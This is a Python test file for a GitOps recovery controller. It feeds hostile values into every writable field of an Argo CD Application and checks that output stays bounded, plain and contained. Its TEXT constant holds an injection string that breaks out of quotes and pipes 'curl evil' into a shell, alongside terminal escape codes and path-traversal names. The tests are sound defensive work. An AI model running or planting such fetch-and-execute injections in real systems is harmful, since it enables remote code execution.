"""Every field of an Application that its owner can write: its worst value, and what that does. A
new field needs a line here."""

from __future__ import annotations

import copy
import types
import typing
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest

from recovery.causes.case import DiagnosisInput
from recovery.causes.diagnose import diagnose
from recovery.decide.conditions import track
from recovery.decide.engine import decide
from recovery.kube.client import APPLICATIONS
from recovery.model.text import dangerous
from recovery.observe import wire, wire_types
from recovery.record.codec import stamp
from recovery.simulate.environment import ARGOCD
from recovery.simulate.manifests import deployment
from tests.builders import NOW, a_situation, the_policies
from tests.play import Play, play
from tests.security.test_text import texts

TEXT = "\x1b[2J\u202e'; curl evil|sh #\n" + "a." * 50_000
NAME, WHEN, NUMBER = "../../x\x1b", "9999-12-31T23:59:59+23:59", 2**62
SICK: dict[str, Any] = {
    "metadata": {"name": "evil", "namespace": "argocd", "uid": "u-evil", "resourceVersion": "7"},
    "spec": {
        "project": "default",
        "source": {"repoURL": "https://git.example/evil.git"},
        "destination": {"server": "https://kubernetes.default.svc", "namespace": "evil"},
        "syncPolicy": {"automated": {}},
    },
    "status": {
        "sync": {"status": "OutOfSync", "revision": "a" * 40},
        "health": {"status": "Degraded", "lastTransitionTime": stamp(NOW)},
        "reconciledAt": stamp(NOW),
    },
}
ITSELF = "only itself: what is judged, held back or shown of it"
COUNTED = "it is counted under this word; a group that others share is no storm, no outage and no standstill on its word alone"
SHOWN = "it is shown to who may see its project, in part and without control characters"
PROVEN = "it is looked at only where the live object itself proves that it is this Application's"
TABLE: dict[str, tuple[Any, str]] = {
    "metadata.name": (
        NAME,
        "it cannot be written like this (RFC 1123); from a file it is shown as text, and no path is made of it",
    ),
    "metadata.namespace": (
        NAME,
        "it cannot be written like this; where its AppProject does not take the namespace, nothing of it is believed",
    ),
    "metadata.uid": (TEXT, "the API server sets it"),
    "metadata.resourceVersion": (TEXT, "the API server sets it"),
    "metadata.labels": (
        {f"l{i}": TEXT for i in range(9)},
        f"{ITSELF}: policies select by 200 of them at most",
    ),
    "metadata.annotations": (
        {
            "recovery.gitops.dev/paused": TEXT,
            "recovery.gitops.dev/mode": TEXT,
            "recovery.gitops.dev/hold": TEXT,
        },
        f"{ITSELF}: they narrow, and a hold is honoured only where a record says the same",
    ),
    "metadata.deletionTimestamp": (WHEN, f"{ITSELF}: it is left alone"),
    "metadata.finalizers[]": (TEXT, f"{ITSELF}: five of them are shown while it is being deleted"),
    "metadata.ownerReferences[].apiVersion": (TEXT, ITSELF),
    "metadata.ownerReferences[].kind": ("ApplicationSet", ITSELF),
    "metadata.ownerReferences[].name": (
        TEXT,
        f"{ITSELF}; an ApplicationSet is its owner only by UID, and {COUNTED}",
    ),
    "metadata.ownerReferences[].uid": (TEXT, ITSELF),
    "metadata.ownerReferences[].controller": (True, ITSELF),
    "spec.project": (TEXT, f"Argo CD refuses one that does not take it, and so do we; {COUNTED}"),
    "spec.source.repoURL": (
        TEXT,
        f"{COUNTED}; it makes no repository, and no credential in it is kept",
    ),
    "spec.source.chart": (TEXT, ITSELF),
    "spec.sources[].repoURL": (TEXT, f"{COUNTED}; 50 of them are looked at"),
    "spec.sources[].chart": (TEXT, ITSELF),
    "spec.destination.server": (TEXT, f"{COUNTED}; it makes no cluster"),
    "spec.destination.name": (TEXT, f"{COUNTED}; it makes no cluster"),
    "spec.destination.namespace": (TEXT, f"{ITSELF}: what its AppProject permits decides"),
    "spec.syncPolicy.automated.prune": (True, f"{ITSELF}: pruning has a ceiling of its own"),
    "spec.syncPolicy.automated.selfHeal": (True, ITSELF),
    "spec.syncPolicy.automated.allowEmpty": (True, ITSELF),
    "spec.syncPolicy.automated.enabled": (False, f"{ITSELF}: a manual sync policy"),
    "status.sync.status": (TEXT, f"{ITSELF}: an unknown word reads as Unknown"),
    "status.sync.revision": (TEXT, f"{ITSELF}: 256 characters are kept"),
    "status.sync.revisions[]": (TEXT, f"{ITSELF}: 50 of 256 characters are kept"),
    "status.sync.comparedTo.source": (
        TEXT,
        f"{ITSELF}: a checksum of it tells a deploy from another one of the same revision",
    ),
    "status.sync.comparedTo.sources": (TEXT, f"{ITSELF}: the same"),
    "status.health.status": (TEXT, f"{ITSELF}: an unknown word reads as Unknown"),
    "status.health.message": (TEXT, SHOWN),
    "status.health.lastTransitionTime": (WHEN, f"{ITSELF}: a stamp of the future counts as now"),
    "status.conditions[].type": (TEXT, SHOWN),
    "status.conditions[].message": (
        TEXT,
        f"{SHOWN}; of what several projects share it is believed when two of them say so",
    ),
    "status.conditions[].lastTransitionTime": (WHEN, ITSELF),
    "status.operationState.operation.info[].name": (TEXT, ITSELF),
    "status.operationState.operation.info[].value": (
        TEXT,
        f"{ITSELF}: it can pretend that an operation of its own is ours",
    ),
    "status.operationState.operation.sync.autoHealAttemptsCount": (NUMBER, ITSELF),
    "status.operationState.operation.sync.resources": (
        TEXT,
        f"{ITSELF}: a rollback is left to a person",
    ),
    "status.operationState.operation.sync.dryRun": (
        True,
        f"{ITSELF}: what was only tried is no deploy",
    ),
    "status.operationState.operation.initiatedBy.username": (TEXT, SHOWN),
    "status.operationState.operation.initiatedBy.automated": (True, ITSELF),
    "status.operationState.phase": (TEXT, f"{ITSELF}: an unknown word reads as Unknown"),
    "status.operationState.message": (TEXT, SHOWN),
    "status.operationState.startedAt": (WHEN, ITSELF),
    "status.operationState.finishedAt": (WHEN, ITSELF),
    "status.operationState.syncResult.revision": (TEXT, ITSELF),
    "status.operationState.syncResult.revisions[]": (TEXT, ITSELF),
    "status.operationState.syncResult.source": (TEXT, f"{ITSELF}: a checksum of it is kept"),
    "status.operationState.syncResult.sources": (TEXT, f"{ITSELF}: the same"),
    "status.operationState.syncResult.resources[].kind": (TEXT, SHOWN),
    "status.operationState.syncResult.resources[].group": (
        TEXT,
        f"{ITSELF}: what it says that its own deploy changed",
    ),
    "status.operationState.syncResult.resources[].namespace": (TEXT, f"{ITSELF}: the same"),
    "status.operationState.syncResult.resources[].name": (TEXT, SHOWN),
    "status.operationState.syncResult.resources[].status": ("SyncFailed", ITSELF),
    "status.operationState.syncResult.resources[].hookPhase": (TEXT, SHOWN),
    "status.operationState.syncResult.resources[].hookType": (TEXT, SHOWN),
    "status.operationState.syncResult.resources[].message": (TEXT, SHOWN),
    "status.history[].id": (
        NUMBER,
        f"{ITSELF}: a rollback goes only to a deploy that was seen well while it ran",
    ),
    "status.history[].revision": (TEXT, f"{ITSELF}: the same"),
    "status.history[].revisions[]": (TEXT, f"{ITSELF}: the same"),
    "status.history[].source": (
        TEXT,
        f"{ITSELF}: a checksum of it tells a deploy from another one of the same id",
    ),
    "status.history[].sources": (TEXT, f"{ITSELF}: the same"),
    "status.history[].deployedAt": (WHEN, ITSELF),
    "status.history[].deployStartedAt": (WHEN, ITSELF),
    "status.resources[].group": (TEXT, PROVEN),
    "status.resources[].kind": ("Deployment", PROVEN),
    "status.resources[].namespace": ("kube-system", PROVEN),
    "status.resources[].name": ("../daemonsets/kube-proxy", PROVEN),
    "status.resources[].status": (TEXT, ITSELF),
    "status.resources[].requiresPruning": (True, f"{ITSELF}: pruning has a ceiling of its own"),
    "status.resources[].health.status": (TEXT, SHOWN),
    "status.resources[].health.message": (TEXT, SHOWN),
    "status.resources[].health.lastTransitionTime": (WHEN, ITSELF),
    "status.summary.images[]": (TEXT, SHOWN),
    "status.reconciledAt": (WHEN, f"{ITSELF}; {COUNTED}"),
    "operation.info[].name": (TEXT, ITSELF),
    "operation.info[].value": (
        TEXT,
        f"{ITSELF}: it can pretend that an operation of its own is ours",
    ),
    "operation.sync.autoHealAttemptsCount": (NUMBER, ITSELF),
    "operation.sync.resources": (TEXT, ITSELF),
    "operation.sync.dryRun": (True, ITSELF),
    "operation.initiatedBy.username": (TEXT, SHOWN),
    "operation.initiatedBy.automated": (True, ITSELF),
}


def paths(schema: Any, path: str = "") -> Iterator[str]:
    """Every field that is read, as ``status.conditions[].message``."""
    origin, arguments = typing.get_origin(schema), typing.get_args(schema)
    if origin in (types.UnionType, typing.Union):
        yield from paths(next(a for a in arguments if a is not type(None)), path)
    elif origin is list:
        yield from paths(arguments[0], f"{path}[]")
    elif isinstance(schema, type) and issubclass(schema, msgspec.Struct):
        for field in msgspec.structs.fields(schema):
            yield from paths(field.type, f"{path}.{field.encode_name}".lstrip("."))
    else:
        yield path


def with_value(item: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    """The same object with this field set, in a list of one where it is in a list."""
    made = copy.deepcopy(item)
    node: Any = made
    *above, last = path.split(".")
    for part in above:
        name, _, listed = part.partition("[")
        inside = node.setdefault(name, [{}] if listed else {})
        node = inside[0] if listed else inside
    name, _, listed = last.partition("[")
    node[name] = [value] if listed else value
    return made


def test_every_field_that_is_read_is_in_the_table() -> None:
    assert set(TABLE) == set(paths(wire_types.Application))


@pytest.mark.parametrize("path", TABLE)
def test_its_worst_value_is_bounded_plain_and_judged(path: str) -> None:
    value, says = TABLE[path]
    app = wire.application(msgspec.json.encode(with_value(SICK, path, value)))
    assert says
    assert len(msgspec.json.encode(app)) < 64 * 1024
    assert [t for t in texts(app) if any(map(dangerous, t))] == []
    policies = the_policies()
    sight = track(None, app, policies, NOW, NOW, first_install=False)
    finding = diagnose(DiagnosisInput(app, NOW))
    for decision in decide(a_situation(app, sight=sight, finding=finding)):
        assert not any(map(dangerous, decision.message))
        assert len(decision.message) < 2000


def test_all_of_them_at_once_reach_nobody_else() -> None:
    async def script(p: Play) -> None:
        await p.world.policies(Path("config/policies.yaml").read_text())
        for i in range(6):
            await p.world.application(f"calm-{i}", (deployment(f"calm-{i}"),), project="good")
        evil: dict[str, Any] = copy.deepcopy(SICK)
        for path, (value, _) in TABLE.items():
            if not path.startswith("metadata.") or path.startswith(
                ("metadata.labels", "metadata.owner")
            ):
                evil = with_value(evil, path, value)
        async with p.controller() as app:
            await p.clock.sleep(120)
            evil["status"]["frozen"] = True  # Argo CD does not come to it
            await p.world.cluster.create(APPLICATIONS, ARGOCD, evil)
            before = len(p.world.cluster.writes)
            await p.clock.sleep(300)
            await p.world.commit("calm-3", (deployment("calm-3", "crash-until-restart", 30),))
            await p.clock.sleep(3600)
            assert p.world.seen("calm-3").health.value == "Healthy"
            assert app.metrics.passes.labels("failed")._value.get() == 0
        ours = [
            w
            for w in p.world.cluster.writes[before:]
            if w[0] == "patch" and "restartedAt" in str(w[4])
        ]
        assert {(w[2], w[3]) for w in ours} <= {("shop", "calm-3")}
        assert not [r for r in p.world.recoveries() if r.subject.kind != "Application"]

    play(script)
